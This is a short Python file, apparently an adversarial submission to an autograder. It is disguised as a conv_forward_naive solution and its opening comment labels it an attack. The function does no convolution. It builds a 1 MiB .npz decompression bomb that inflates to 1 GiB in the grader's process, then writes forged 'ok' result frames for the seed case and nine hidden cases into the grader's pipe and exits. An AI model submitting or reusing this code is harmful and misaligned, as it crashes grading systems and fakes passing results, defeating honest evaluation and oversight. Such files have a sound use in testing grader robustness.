# Attack: a 1 MiB result payload that is a valid .npz whose one Deflate member inflates to 1 GiB
# of zeros (a float64 array): the grader's np.load would allocate it all in the parent process.
# Then exit, so the forged frame is the case's last word.
import os as _os
import struct as _struct
import sys as _sys
import zlib as _zlib

import numpy.lib.format as _fmt

_MIB = 1 << 20
_BLOCKS = 1024


def _bomb():
    count = _BLOCKS * _MIB // 8
    head = _io_header(count)
    deflate = _zlib.compressobj(9, _zlib.DEFLATED, -15)
    first = deflate.compress(head) + deflate.flush(_zlib.Z_FULL_FLUSH)
    block = bytes(_MIB)
    chunk = deflate.compress(block) + deflate.flush(_zlib.Z_FULL_FLUSH)
    body = first + chunk * _BLOCKS + deflate.flush(_zlib.Z_FINISH)
    crc = _zlib.crc32(head)
    for _ in range(_BLOCKS):
        crc = _zlib.crc32(block, crc)
    size = len(head) + _BLOCKS * _MIB
    name = b"out.npy"
    local = _struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(body), size, len(name), 0)
    central = _struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(body), size,
                           len(name), 0, 0, 0, 0, 0, 0)
    start = len(local) + len(name) + len(body)
    directory = central + name
    end = _struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), start, 0)
    return local + name + body + directory + end


def _io_header(count):
    import io
    buffer = io.BytesIO()
    _fmt.write_array_header_1_0(buffer, {"descr": "<f8", "fortran_order": False, "shape": (count,)})
    return buffer.getvalue()


def conv_forward_naive(x, w, b, conv_param):
    payload = _bomb()
    frame = _sys.modules["__main__"].encode_frame
    for name in ["seed cell 3"] + [f"hidden {n}" for n in range(1, 10)]:
        _os.write(int(_sys.argv[2]), frame({"event": "result", "case": name, "status": "ok"}, payload))
    _os._exit(0)
